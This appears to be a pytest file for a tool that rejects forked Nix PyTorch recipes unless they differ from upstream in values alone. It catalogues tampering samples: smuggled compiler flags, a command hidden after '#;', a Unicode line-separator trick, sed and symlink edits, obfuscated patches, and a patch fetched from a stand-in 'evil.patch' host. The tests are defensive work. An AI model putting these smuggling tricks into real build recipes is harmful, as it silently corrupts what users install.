"""A fork's recipe is classified only where it is the trusted upstream's recipe but for its values (issue 69).

The upstream is made with real git from tests/buildrepo.py's `template` (a recipe in the build repository's shape
with every value position the whitelist names); a fork is a clone of it. One fork changes values alone (a new GPU
architecture, the PyTorch version and source hash, the job count, a comment, a printed line): it classifies and is
recommended. Every attack of the earlier rounds, each of issue 69's five and the slips it names is a branch of
another fork: `catalog sync FORK --upstream UPSTREAM` leaves each out naming the line where it differs (or the file
it brings in), and recommends nothing from it. What each attack would really build is shown with the real tools:
nix-instantiate evaluates the fork's recipe against the stand-in nixpkgs (tests/nix/eval-fork.nix), bash runs its
build script, GNU patch applies its patch, cmake reads what the script and the patch leave, and g++ with objdump
shows the AVX-512 code the "avx2" flags then give.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from buildrepo import HASH_2101, PIN_291, as_upstream, commit_branch, git, template
from conftest import TESTS, cli_runner, cpuinfo_path, generated, require
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pickvariant import api
from pickvariant.cli.main import app

runner = cli_runner()
BRANCH = "pytorch-2.10-python313"
SM90 = "pytorch-python313-cuda13_1-sm90-avx512"
SM89 = "pytorch-python313-cuda13_1-sm89-avx512"
SM90_AVX2 = "pytorch-python313-cuda13_1-sm90-avx2"
AVX2 = "pytorch-python313-cpu-avx2"
AVX512 = "pytorch-python313-cpu-avx512"
UPSTREAM = {
    SM90: template(SM90, "avx512", "sm90"),
    SM89: template(SM89, "avx512", "sm89"),
    SM90_AVX2: template(SM90_AVX2, "avx2", "sm90"),
    AVX2: template(AVX2, "avx2"),
    AVX512: template(AVX512, "avx512"),
}
META = "    meta = old.meta"  # where a fork adds a derivation attribute
JOBS = "      export MAX_JOBS=32\n"  # the build script's last export: a fork adds its lines after it
AVX512_CODE = '#pragma GCC target("avx512f")\n'
MACROS = "static inline void pv_scale(float *x) { for (int i = 0; i < 64; i++) x[i] *= 2.0f; }\n"


def _attr(binding: str) -> Callable[[str], str]:
    return lambda text: text.replace(META, f"    {binding}\n{META}", 1)


def _script(line: str) -> Callable[[str], str]:
    return lambda text: text.replace(JOBS, f"{JOBS}      {line}\n", 1)


def _swap(old: str, new: str) -> Callable[[str], str]:
    def swapped(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return swapped


@dataclass
class Built:
    """What a fork's recipe hands the build: nix-instantiate's evaluation and the environment its script leaves."""

    evaluated: dict
    environment: dict[str, str]
    tree: Path  # where the build script ran (the source tree it changed)


@dataclass
class Attack:
    package: str
    change: Callable[[str], str]
    files: dict[str, str] = field(default_factory=dict)  # more files the fork brings, under .flox/pkgs/
    shows: Callable[[Built], bool] | None = None  # what the real tools show it builds; None: not evaluable here


def _flags(built: Built) -> list[str]:
    return built.environment.get("CXXFLAGS", "").split() + built.environment.get("CFLAGS", "").split()


def _targets(built: Built) -> list[str]:
    return [*built.evaluated["overrideArgs"].get("gpuTargets", []), built.environment.get("TORCH_CUDA_ARCH_LIST", "")]


# An avx2- or sm90-named recipe that builds for more than its name some way other than its values.
ATTACKS = {
    # Earlier rounds (issue 41's and 51's): a setting the old allowlist did not read.
    "NIX_CFLAGS_COMPILE": Attack(
        AVX2,
        _attr('NIX_CFLAGS_COMPILE = "-march=sapphirerapids";'),
        shows=lambda b: b.environment.get("NIX_CFLAGS_COMPILE") == "-march=sapphirerapids",
    ),
    "env.CXXFLAGS": Attack(AVX2, _attr('env.CXXFLAGS = "-mavx512f";'), shows=lambda b: b.evaluated["env"] != {}),
    "export -march=native": Attack(
        AVX2, _script('export CXXFLAGS="-march=native $CXXFLAGS"'), shows=lambda b: "-march=native" in _flags(b)
    ),
    "cmakeFlags CMAKE_CXX_FLAGS": Attack(
        AVX2,
        _attr('cmakeFlags = [ "-DCMAKE_CXX_FLAGS=-mavx512f" ];'),
        shows=lambda b: "-DCMAKE_CXX_FLAGS=-mavx512f" in b.evaluated["cmakeFlags"],
    ),
    "localSystem.gcc.arch": Attack(
        AVX2,
        _swap("config = { allowUnfree", 'localSystem = { gcc.arch = "sapphirerapids"; }; config = { allowUnfree'),
        shows=lambda b: b.evaluated["nixpkgs"]["config"].get("localSystem") == {"gcc": {"arch": "sapphirerapids"}},
    ),
    "withCFlags": Attack(
        AVX2, _attr('stdenv = nixpkgs_pinned.withCFlags [ "-mavx512f" ] nixpkgs_pinned.stdenv;'), shows=None
    ),
    "impureUseNativeOptimizations": Attack(
        AVX2, _attr("stdenv = nixpkgs_pinned.impureUseNativeOptimizations nixpkgs_pinned.stdenv;"), shows=None
    ),
    "a second flag list": Attack(
        AVX2,
        lambda text: _script('export CXXFLAGS="${nixpkgs_pinned.lib.concatStringsSep " " extraFlags} $CXXFLAGS"')(
            text.replace("  cpuFlags =", '  extraFlags = [ "-mavx512f" ];\n  cpuFlags =', 1)
        ),
        shows=lambda b: "-mavx512f" in _flags(b),
    ),
    "a flag joined from two strings": Attack(
        AVX2, _swap('"-mf16c" ]', '"-mf16c" ("-mavx" + "512f") ]'), shows=lambda b: "-mavx512f" in _flags(b)
    ),
    "a let that shadows the list": Attack(
        AVX2,
        _swap("in\n(nixpkgs_pinned", 'in let cpuFlags = [ "-mavx512f" "-mavx512bw" ]; in\n(nixpkgs_pinned'),
        shows=lambda b: "-mavx512bw" in _flags(b),
    ),
    "sed in the build script": Attack(
        AVX2, _script("sed -i 's/-O2/-O2 -mavx512f/' CMakeLists.txt"), shows=lambda b: "-mavx512f" in _cmake_file(b)
    ),
    "a with": Attack(AVX2, _swap("in\n(nixpkgs_pinned", "in with nixpkgs_pinned;\n(nixpkgs_pinned"), shows=None),
    "an import of a file of the fork": Attack(
        AVX2,
        _swap('cpuFlags = [ "-mavx2" "-mfma" "-mf16c" ]', "cpuFlags = import ./flags.nix"),
        files={"flags.nix": '[ "-mavx2" "-mavx512f" ]\n'},
        shows=lambda b: "-mavx512f" in _flags(b),
    ),
    "TORCH_CUDA_ARCH_LIST": Attack(
        SM90, _script('export TORCH_CUDA_ARCH_LIST="10.0"'), shows=lambda b: "10.0" in _targets(b)
    ),
    "cudaCapabilities": Attack(
        SM90,
        _swap("cudaSupport = true; };", 'cudaSupport = true; cudaCapabilities = [ "10.0" ]; };'),
        shows=lambda b: b.evaluated["nixpkgs"]["config"].get("cudaCapabilities") == ["10.0"],
    ),
    "-gencode in CUDAFLAGS": Attack(
        SM90,
        _script('export CUDAFLAGS="-gencode=arch=compute_100,code=sm_100 $CUDAFLAGS"'),
        shows=lambda b: "sm_100" in b.environment.get("CUDAFLAGS", ""),
    ),
    "a command hidden behind a hash": Attack(
        AVX2, _script('echo "x"#; export CXXFLAGS="-mavx512f $CXXFLAGS"'), shows=lambda b: "-mavx512f" in _flags(b)
    ),
    "a line separator where bash splits no line": Attack(
        AVX2, _script('echo x\u2028export CXXFLAGS="-mavx512f $CXXFLAGS"'), shows=None
    ),
    "a local patch adding a flag": Attack(
        AVX2,
        _attr("patches = (old.patches or [ ]) ++ [ ./tune.patch ];"),
        files={
            "tune.patch": "--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,2 @@\n project(Torch)\n+add_compile_options(-mavx512f)\n"
        },
        shows=lambda b: "tune.patch" in b.evaluated["patches"],
    ),
    "a fetched patch of no upstream's": Attack(
        AVX2,
        _attr(
            'patches = [ (nixpkgs_pinned.fetchpatch { url = "https://example.invalid/evil.patch"; '
            'hash = "sha256-' + "A" * 42 + 'E="; }) ];'
        ),
        shows=lambda b: "https://example.invalid/evil.patch" in b.evaluated["patches"],
    ),
    # Issue 69's five.
    "replaceStrings read pair by pair": Attack(
        SM90,
        _swap(
            "gpuTargets = [ gpuArchSM ]",
            'gpuTargets = [ (builtins.replaceStrings [ "sm" "10.0" ] [ "10.0" "9.0" ] "sm") ]',
        ),
        shows=lambda b: b.evaluated["overrideArgs"]["gpuTargets"] == ["10.0"],
    ),
    "a header linked into the tree": Attack(
        AVX2,
        _script("ln -sf ${./tune}/Macros.h c10/macros/Macros.h"),
        files={"tune/Macros.h": AVX512_CODE + MACROS},
        shows=lambda b: _compiles_to_avx512(b, b.tree / "c10/macros/Macros.h"),
    ),
    "a CMake module included from the template's heredoc": Attack(
        AVX2,
        lambda text: _script(
            "echo 'string(APPEND CMAKE_CXX_FLAGS \" -march=sapphirerapids\")' > cmake/Modules/Pvtune.cmake"
        )(
            text.replace(
                "      set(PICKVARIANT_TUNED ON)\n", "      set(PICKVARIANT_TUNED ON)\n      include(Pvtune)\n", 1
            )
        ),
        shows=lambda b: "-march=sapphirerapids" in _cmake_flags(b),
    ),
    "a patch with a GCC target pragma": Attack(
        AVX2,
        _attr("patches = (old.patches or [ ]) ++ [ ./target.patch ];"),
        files={
            "target.patch": f"--- a/Macros.h\n+++ b/Macros.h\n@@ -1 +1,2 @@\n+{AVX512_CODE.strip()}\n {MACROS.strip()}\n"
        },
        shows=lambda b: _patched_compiles_to_avx512(b, "target.patch"),
    ),
    "a CMake variable named in pieces": Attack(
        AVX2,
        _attr("patches = (old.patches or [ ]) ++ [ ./pieces.patch ];"),
        files={
            "pieces.patch": "--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n project(Torch)\n"
            '+set(_n FL)\n+string(APPEND CMAKE_CXX_${_n}AGS " -mavx512f")\n'
        },
        shows=lambda b: "-mavx512f" in _patched_cmake_flags(b, "pieces.patch"),
    ),
    "USE_CUDA=0 in the script": Attack(
        SM90, _script("export USE_CUDA=0"), shows=lambda b: b.environment.get("USE_CUDA") == "0"
    ),
    "-DUSE_CUDA=OFF": Attack(
        SM90,
        _attr('cmakeFlags = [ "-DUSE_CUDA=OFF" ];'),
        shows=lambda b: "-DUSE_CUDA=OFF" in b.evaluated["cmakeFlags"],
    ),
    # The slips issue 69 names.
    "a heredoc ended by EOF and a blank": Attack(
        SM90, _swap("      EOF\n", "      EOF \n"), shows=lambda b: "-mavx512f" not in _flags(b)
    ),
    "nixpkgs text spliced into the script": Attack(
        AVX2,
        _script('${nixpkgs_pinned.lib.optionalString true "export CXXFLAGS=-march=native"}'),
        shows=lambda b: "-march=native" in _flags(b),
    ),
    "gpuTargets joined with a nixpkgs list": Attack(
        SM90,
        _swap("gpuTargets = [ gpuArchSM ]", 'gpuTargets = [ gpuArchSM ] ++ nixpkgs_pinned.lib.optional true "10.0"'),
        shows=lambda b: b.evaluated["overrideArgs"]["gpuTargets"] == ["9.0", "10.0"],
    ),
    "a default argument under Flox's call": Attack(
        AVX2,
        lambda text: text.replace(
            "{ pkgs ? import <nixpkgs> {} }", '{ pkgs ? import <nixpkgs> {}, tune ? "-mavx512f" }', 1
        ).replace('"-mf16c" ]', '"-mf16c" tune ]', 1),
        shows=lambda b: "-mavx512f" in _flags(b),
    ),
    # Read apart, or not Nix at all.
    "a NUL byte": Attack(AVX2, lambda text: text + '\0cpuFlags = [ "-mavx512f" ];\n'),
    "not valid Nix": Attack(AVX2, _swap("in\n(nixpkgs_pinned", "in\n((nixpkgs_pinned")),
    "an inherited version": Attack(AVX2, _swap('version = "2.10.0";', "inherit version;")),
}


# --- the real tools: what each attack builds


def _built(tmp_path: Path, attack: Attack) -> Built:
    """The attacked recipe evaluated by nix-instantiate against the stand-in nixpkgs, its script run by bash in a
    source tree of its own (a path literal it interpolates stands where Nix would copy it)."""
    nix = shutil.which("nix-instantiate")
    require(nix is not None, "nix-instantiate is not installed (Debian package nix-bin)")
    folder = tmp_path / "pkgs"
    folder.mkdir(parents=True)
    for name, text in attack.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    recipe = folder / "recipe.nix"
    recipe.write_text(attack.change(UPSTREAM[attack.package]))
    command = [nix, "--eval", "--strict", "--json", str(TESTS / "nix/eval-fork.nix"), "--arg", "recipe", str(recipe)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    evaluated = json.loads(done.stdout)
    tree = tmp_path / "tree"
    (tree / "c10/macros").mkdir(parents=True)
    (tree / "CMakeLists.txt").write_text('project(Torch)\nset(CMAKE_CXX_FLAGS_RELEASE "-O2")\n')
    (tree / "c10/macros/Macros.h").write_text(MACROS)
    # Nix copies an interpolated path into its store; here it stands where the fork keeps it (no store is written).
    script = re.sub(r"/nix/store/[0-9a-z]{32}-tune", str(folder / "tune"), evaluated["preConfigure"])
    (tmp_path / "hook.sh").write_text(script)
    dump = tmp_path / "environment.0"
    # Sourced as a file of its own, as stdenv runs a hook: a heredoc it never ends stops at the file's end.
    ran = subprocess.run(
        ["bash", "-c", f"source '{tmp_path / 'hook.sh'}'; env -0 > '{dump}'"],
        env={**evaluated["environment"], "PATH": "/usr/bin:/bin"},
        capture_output=True, text=True, timeout=60, cwd=tree, check=False,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    environment = dict(item.split("=", 1) for item in dump.read_text().split("\0") if "=" in item)
    return Built(evaluated=evaluated, environment=environment, tree=tree)


def _cmake_file(built: Built) -> str:
    return (built.tree / "CMakeLists.txt").read_text()


def _cmake_run(tree: Path, script: str) -> str:
    """What cmake itself makes of `script` (run with -P in `tree`): its message lines."""
    cmake = shutil.which("cmake")
    require(cmake is not None, "cmake is not installed")
    (tree / "probe.cmake").write_text(script)
    done = subprocess.run(
        [str(cmake), "-P", "probe.cmake"], cwd=tree, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout + done.stderr


def _cmake_flags(built: Built) -> str:
    """CMAKE_CXX_FLAGS after the module the template's script writes is included, as PyTorch's CMake would."""
    return _cmake_run(
        built.tree, 'list(APPEND CMAKE_MODULE_PATH "${CMAKE_CURRENT_LIST_DIR}/cmake/Modules")\n'
        'include(Tuning)\nmessage(STATUS "flags:${CMAKE_CXX_FLAGS}")\n',
    )  # fmt: skip


def _patched(built: Built, patch: str) -> Path:
    """The source tree with the patches the recipe applies that are the fork's own files, applied by GNU patch."""
    program = shutil.which("patch")
    require(program is not None, "GNU patch is not installed")
    (built.tree / "Macros.h").write_text(MACROS)
    for applied in built.evaluated["patches"]:
        if applied != patch:
            continue
        text = (built.tree.parent / "pkgs" / patch).read_text()
        done = subprocess.run(
            [str(program), "-p1"], input=text, cwd=built.tree, capture_output=True, text=True, timeout=60, check=False
        )
        assert done.returncode == 0, done.stdout + done.stderr
    return built.tree


def _patched_cmake_flags(built: Built, patch: str) -> str:
    """CMAKE_CXX_FLAGS once cmake has read the patched CMakeLists.txt (its `project()`, which only a configure
    runs, left out of the script cmake -P reads)."""
    tree = _patched(built, patch)
    lines = (tree / "CMakeLists.txt").read_text().splitlines()
    body = "\n".join(line for line in lines if not line.startswith("project("))
    return _cmake_run(tree, f'set(CMAKE_CXX_FLAGS "")\n{body}\nmessage(STATUS "flags:${{CMAKE_CXX_FLAGS}}")\n')


def _patched_compiles_to_avx512(built: Built, patch: str) -> bool:
    return _compiles_to_avx512(built, _patched(built, patch) / "Macros.h")


def _compiles_to_avx512(built: Built, header: Path) -> bool:
    """g++ with the build's own flags (the avx2 list) on a file including `header`: does objdump show AVX-512 code
    (zmm registers or mask registers)?"""
    compiler, objdump = shutil.which("g++"), shutil.which("objdump")
    require(compiler is not None and objdump is not None, "g++ and objdump (binutils) are not installed")
    source = built.tree / "use.cc"
    source.write_text(f'#include "{header}"\nvoid use(float *x) {{ pv_scale(x); }}\n')
    flags = [flag for flag in _flags(built) if flag.startswith("-m")]
    compiled = subprocess.run(
        [str(compiler), "-O3", *flags, "-c", str(source), "-o", str(built.tree / "use.o")],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert compiled.returncode == 0, compiled.stderr
    listing = subprocess.run(
        [str(objdump), "-d", str(built.tree / "use.o")], capture_output=True, text=True, timeout=60, check=True
    ).stdout
    return "%zmm" in listing or re.search(r"%k[1-7]", listing) is not None


@pytest.mark.parametrize("case", sorted(name for name, attack in ATTACKS.items() if attack.shows is not None))
def test_each_attack_really_builds_more_than_its_name_says(case, tmp_path) -> None:
    """The attack is real: the real tools show the build gets what its name denies (a flag, a target, AVX-512
    code), or (the heredoc) does not get the flags its name promises."""
    attack = ATTACKS[case]
    assert attack.shows is not None
    honest = _built(tmp_path / "honest", Attack(attack.package, lambda text: text, attack.files))
    assert not attack.shows(honest) or case == "a header linked into the tree"  # the upstream does not do it
    assert attack.shows(_built(tmp_path / "forged", attack))


# --- pickvariant: each attack left out naming its place; the fork of values classified and recommended


def _upstream(tmp_path: Path) -> Path:
    require(shutil.which("git") is not None, "git is not installed")
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    git(upstream, "init", "-q", "-b", "main")
    git(upstream, "commit", "-q", "--allow-empty", "-m", "root")
    commit_branch(upstream, BRANCH, {f"{name}.nix": text for name, text in UPSTREAM.items()})
    return upstream


def _attacked_fork(tmp_path: Path, upstream: Path) -> Path:
    """One branch a case: the upstream's branch with that one recipe changed (and its files added)."""
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", "--no-local", str(upstream), str(fork))
    for number, (_, attack) in enumerate(sorted(ATTACKS.items())):
        files = {f"{name}.nix": text for name, text in UPSTREAM.items()}
        files[f"{attack.package}.nix"] = attack.change(UPSTREAM[attack.package])
        commit_branch(fork, f"{BRANCH}-a{number}", {**files, **attack.files}, parent=f"origin/{BRANCH}")
    return fork


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple[dict[str, str], Path]:
    """(each case's reason, the catalog) of one sync of the attacked fork against its upstream."""
    tmp_path = tmp_path_factory.mktemp("attacked")
    upstream = _upstream(tmp_path)
    fork = _attacked_fork(tmp_path, upstream)
    catalog = tmp_path / "catalog.json"
    result = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(catalog), *as_upstream(upstream)])
    assert result.exit_code == 0, result.output
    reasons = {}
    for number, (case, attack) in enumerate(sorted(ATTACKS.items())):
        found = re.search(
            rf"^  {re.escape(BRANCH)}-a{number}:\.flox/pkgs/{attack.package}\.nix: (.*)$", result.stderr, re.M
        )
        reasons[case] = found.group(1) if found else ""
    return reasons, catalog


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_each_attack_is_left_out_naming_the_line_where_it_differs(case, attacked) -> None:
    reasons, catalog = attacked
    reason = reasons[case]
    attack = ATTACKS[case]
    number = sorted(ATTACKS).index(case)
    rows = {(row["branch"], row["package"]) for row in json.loads(catalog.read_text())["variants"]}
    assert (f"{BRANCH}-a{number}", attack.package) not in rows
    assert {name for branch, name in rows if branch == f"{BRANCH}-a{number}"} == set(UPSTREAM) - {attack.package}
    found = re.match(r"line (\d+)", reason)
    if found is None:
        assert reason.startswith("the recipe cannot be read as Nix reads it"), reason
        return
    forged = attack.change(UPSTREAM[attack.package]).split("\n")
    line = int(found.group(1))
    assert forged[line - 1] not in UPSTREAM[attack.package].split("\n"), (reason, forged[line - 1])


def test_an_attacked_fork_recommends_nothing_it_forged(attacked) -> None:
    """An AVX2 machine with an sm90 GPU, the attacked fork as its catalog: no answer names a forged recipe."""
    _, catalog = attacked
    api.default_catalog.cache_clear()
    for branch in (f"{BRANCH}-a{number}" for number in range(len(ATTACKS))):
        answer = runner.invoke(
            app,
            ["detect", "--cpuinfo", str(cpuinfo_path("linux-rhel7-haswell")), "--gpu", "9.0", "--driver", "590.44.01",
             "--branch", branch, "--format", "json"],
            env={"PICKVARIANT_CATALOG": str(catalog)},
        )  # fmt: skip
        assert answer.exit_code in (0, 3), answer.output
        if answer.exit_code == 0:
            chosen = json.loads(answer.stdout)["recommendation"]["package"]
            forged = ATTACKS[sorted(ATTACKS)[int(branch.rsplit("-a", 1)[1])]].package
            assert chosen != forged


def test_a_fork_that_changes_values_alone_is_classified_and_recommended(tmp_path) -> None:
    """A new GPU architecture from a template upstream builds for two, the PyTorch version and source hash, the job
    count, a comment and a printed line: every recipe classifies as what its values say, and a B200 machine (cc
    10.0) is recommended the fork's new sm100 build."""
    upstream = _upstream(tmp_path)
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", "--no-local", str(upstream), str(fork))
    sm100 = "pytorch-python313-cuda13_1-sm100-avx512"
    files = {
        f"{name}.nix": template(name, isa, sm, version="2.10.1", source_hash=HASH_2101)
        for name, isa, sm in (
            (SM90, "avx512", "sm90"), (SM89, "avx512", "sm89"), (SM90_AVX2, "avx2", "sm90"),
            (AVX2, "avx2", None), (AVX512, "avx512", None),
        )
    }  # fmt: skip
    new = template(sm100, "avx512", "sm100", version="2.10.1", source_hash=HASH_2101, jobs=8, said="B200 (sm100)")
    files[f"{sm100}.nix"] = "# our own build for the B200\n" + new
    commit_branch(fork, BRANCH, files, parent=f"origin/{BRANCH}")
    catalog = tmp_path / "catalog.json"
    result = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(catalog), *as_upstream(upstream)])
    assert result.exit_code == 0, result.output
    rows = {row["package"]: row for row in json.loads(catalog.read_text())["variants"] if row["branch"] == BRANCH}
    assert set(rows) == {*UPSTREAM, sm100} and {row["torch"] for row in rows.values()} == {"2.10.1"}
    assert (rows[sm100]["gpu_arch"], rows[sm100]["cpu_isa"], rows[sm100]["cuda"]) == ("sm100", "avx512", "13.1")
    api.default_catalog.cache_clear()
    answer = runner.invoke(
        app,
        ["detect", "--cpuinfo", str(cpuinfo_path("linux-rhel7-skylake_avx512")), "--gpu", "10.0", "--driver",
         "590.44.01", "--format", "json"],
        env={"PICKVARIANT_CATALOG": str(catalog)},
    )  # fmt: skip
    assert answer.exit_code == 0, answer.output
    assert json.loads(answer.stdout)["recommendation"]["package"] == sm100


def test_a_new_architecture_only_through_a_template_upstream_builds_for_several(tmp_path) -> None:
    """The avx2 GPU template upstream builds for sm90 alone: its architecture may come from more than its values,
    so an sm100 made from it is left out, said; the avx512 one (sm90 and sm89) takes a new one."""
    upstream = _upstream(tmp_path)
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", "--no-local", str(upstream), str(fork))
    lone = "pytorch-python313-cuda13_1-sm100-avx2"
    files = {f"{name}.nix": text for name, text in UPSTREAM.items()}
    files[f"{lone}.nix"] = template(lone, "avx2", "sm100")
    commit_branch(fork, BRANCH, files, parent=f"origin/{BRANCH}")
    result = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(tmp_path / "c.json"), *as_upstream(upstream)])
    assert result.exit_code == 0, result.output
    assert f"{lone}.nix: it is upstream's {SM90_AVX2}.nix" in result.stderr
    assert "a template upstream builds only for sm90: sm100 from it is not proven" in result.stderr


def test_a_new_nixpkgs_is_read_only_where_the_package_sets_name_their_versions(tmp_path) -> None:
    """The template names python313Packages and cudaPackages_13_1: another nixpkgs revision changes no Python or
    CUDA release its name states, so it is read (the torch comes from its own version)."""
    upstream = _upstream(tmp_path)
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", "--no-local", str(upstream), str(fork))
    files = {
        f"{name}.nix": text.replace("2017d6d515f8a7b289fe06d3a880a7ec588c3900", PIN_291)
        for name, text in UPSTREAM.items()
    }
    commit_branch(fork, BRANCH, files, parent=f"origin/{BRANCH}")
    catalog = tmp_path / "c.json"
    result = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(catalog), *as_upstream(upstream)])
    assert result.exit_code == 0, result.output
    rows = [row for row in json.loads(catalog.read_text())["variants"] if row["branch"] == BRANCH]
    assert {row["nixpkgs_rev"] for row in rows} == {PIN_291} and len(rows) == len(UPSTREAM)
    generic = files[f"{AVX2}.nix"].replace("python313Packages", "python3Packages")
    commit_branch(fork, BRANCH, {**files, f"{AVX2}.nix": generic}, parent=BRANCH)
    upstream_generic = {
        **{f"{n}.nix": t for n, t in UPSTREAM.items()},
        f"{AVX2}.nix": UPSTREAM[AVX2].replace("python313Packages", "python3Packages"),
    }
    commit_branch(upstream, BRANCH, upstream_generic, parent=BRANCH)
    again = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(catalog), "--force", *as_upstream(upstream)])
    assert f"{AVX2}.nix: it pins nixpkgs {PIN_291[:12]}, which upstream does not use with this recipe" in again.stderr


# --- the skeleton: values are holes, nothing else is


def _recipe_with(position: str, literal: str) -> str:
    """The upstream's sm90 recipe with `literal` written where `position` (a binding it has) holds its value."""
    text = UPSTREAM[SM90]
    found = re.search(rf"(\b{position} = )([^;]*);", text)
    assert found, position
    return text[: found.start(2)] + literal + text[found.end(2) :]


@given(st.data())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_value_of_a_positions_grammar_leaves_the_skeleton_as_it_is_and_anything_else_changes_it(data) -> None:
    """The whitelist's one promise: a value position's literal can be any value of its grammar without changing the
    skeleton; text of another shape there (a quote, a `$`, an interpolation, a call) is code, and the skeleton
    differs from the upstream's, or the recipe is not read at all."""
    generated("skeleton: values of each position's grammar, and text of any other shape there")
    from pickvariant.sources.flox.recipes.nixtext import NotNix
    from pickvariant.sources.flox.recipes.skeleton import skeleton_of

    upstream = skeleton_of(UPSTREAM[SM90])
    position, pattern, quoted = data.draw(
        st.sampled_from(
            [("gpuArchSM", r"[0-9]{1,2}\.[0-9][a-z]?", '"{}"'), ("pname", r"[a-z][a-z0-9._+-]{0,40}", '"{}"'),
             ("ninjaFlags", r"-j[0-9]{1,4}", '[ "{}" ]'), ("cpuFlags", r"-m[a-z0-9]{1,12}", '[ "{}" "-mfma" ]')]
        )
    )  # fmt: skip
    value = data.draw(st.from_regex(pattern, fullmatch=True))
    assert skeleton_of(_recipe_with(position, quoted.format(value))).tokens == upstream.tokens
    other = data.draw(
        st.sampled_from(['"a\\"b"', '"${x}"', "x", '("a" + "b")', '""+""', '[ "a" ] ++ [ ]', "[ x ]", "1"])
    )
    try:
        changed = skeleton_of(_recipe_with(position, other)).tokens
    except NotNix:
        return
    assert changed != upstream.tokens


@given(st.data())
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_cut_or_repeat_of_a_recipe_is_judged_or_left_out_never_a_crash(data) -> None:
    """Recipes cut or pasted at any byte: the judge answers with a match or one reason, never another exception,
    and the same text gets the same answer."""
    generated("judge: the upstream's recipes cut and repeated at any byte")
    from pickvariant.sources.flox.recipes.trusted import TrustedRecipe, Upstream

    name = data.draw(st.sampled_from(sorted(UPSTREAM)))
    source = UPSTREAM[name]
    start = data.draw(st.integers(0, len(source)))
    end = data.draw(st.integers(start, len(source)))
    text = source[:start] + source[end:] if data.draw(st.booleans()) else source[:end] + source[start:]
    trusted = TrustedRecipe(
        path=f".flox/pkgs/{name}.nix", package=name, blob="b", where="up", reader=0, size=len(source)
    )
    judge = Upstream([trusted], [lambda ids: iter([("b", source.encode())])])
    verdict = judge.judge(name, text)
    assert (verdict.matched is not None) == (text == source or verdict.why is None), verdict
    assert verdict.why is None or (verdict.why.isprintable() and verdict.why == judge.judge(name, text).why)


def test_a_recipe_far_larger_than_any_upstream_one_is_left_out_unread(tmp_path) -> None:
    """A fork's recipe of 1 MiB (a build script of thousands of lines): left out by its size, which no comment,
    space or longer value can make up, before it is parsed; the sync goes on with the rest."""
    upstream = _upstream(tmp_path)
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", "--no-local", str(upstream), str(fork))
    files = {f"{name}.nix": text for name, text in UPSTREAM.items()}
    files[f"{AVX2}.nix"] = UPSTREAM[AVX2].replace(JOBS, JOBS + "      echo building\n" * 50_000, 1)
    commit_branch(fork, BRANCH, files, parent=f"origin/{BRANCH}")
    result = runner.invoke(app, ["catalog", "sync", str(fork), "-o", str(tmp_path / "c.json"), *as_upstream(upstream)])
    assert result.exit_code == 0, result.output
    assert re.search(rf"{AVX2}\.nix: it is \d{{7}} bytes, more than any upstream recipe it could be", result.stderr)


def test_the_whole_sync_shares_one_deadline(tmp_path, monkeypatch) -> None:
    """PICKVARIANT_NETWORK_TIMEOUT bounds the sync as a whole, every git call in it: past it, one line naming it."""
    upstream = _upstream(tmp_path)
    monkeypatch.setenv("PICKVARIANT_NETWORK_TIMEOUT", "0.001")
    result = runner.invoke(
        app, ["catalog", "sync", str(upstream), "-o", str(tmp_path / "c.json"), *as_upstream(upstream)]
    )
    assert result.exit_code == 1 and not (tmp_path / "c.json").exists()
    assert "catalog sync took longer than 0.001 s in all (set PICKVARIANT_NETWORK_TIMEOUT" in result.stderr
